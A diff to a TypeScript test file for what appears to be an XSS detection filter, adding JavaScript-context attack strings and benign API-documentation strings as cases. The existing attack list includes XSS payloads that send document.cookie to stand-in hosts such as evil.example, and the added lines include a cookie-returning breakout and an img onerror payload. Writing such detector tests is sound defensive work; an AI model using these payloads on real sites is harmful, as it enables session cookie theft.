@@ -80,6 +80,9 @@ const ATTACKS: readonly string[] = [
   // JavaScript context
   "';alert(1)//",
   "x onerror=fetch('//e.example/?c='+document.cookie)",
+  '`-alert()-`',
+  "';return document.cookie}//",
+  '<img src=x onerror=`alert()`>',
   "javascript:document.location='//evil.example/'+document.cookie",
   "\" onmouseover=location.href='//evil' x=\"",
   '"-alert(1)-"',
@@ -260,6 +263,11 @@ const BENIGN: readonly string[] = [
   // a DOM member named between words of a question, no script syntax around it
   'Why does document.cookie return an empty string on localhost?',
   'Use location.href to redirect the page',
+  // API documentation: a member or an empty call in a Markdown code span, or closing a sentence
+  '**`document.designMode`** controls whether the entire document is editable.',
+  '`window.alert()` instructs the browser to display a dialog with an optional message.',
+  '**`window.postMessage()`** method safely enables cross-origin communication between Window objects',
+  'writes text to a document stream opened by document.open().\n@deprecated',
 ];
 
 test('xss: attacks are strong hits at paranoia 1', () => {
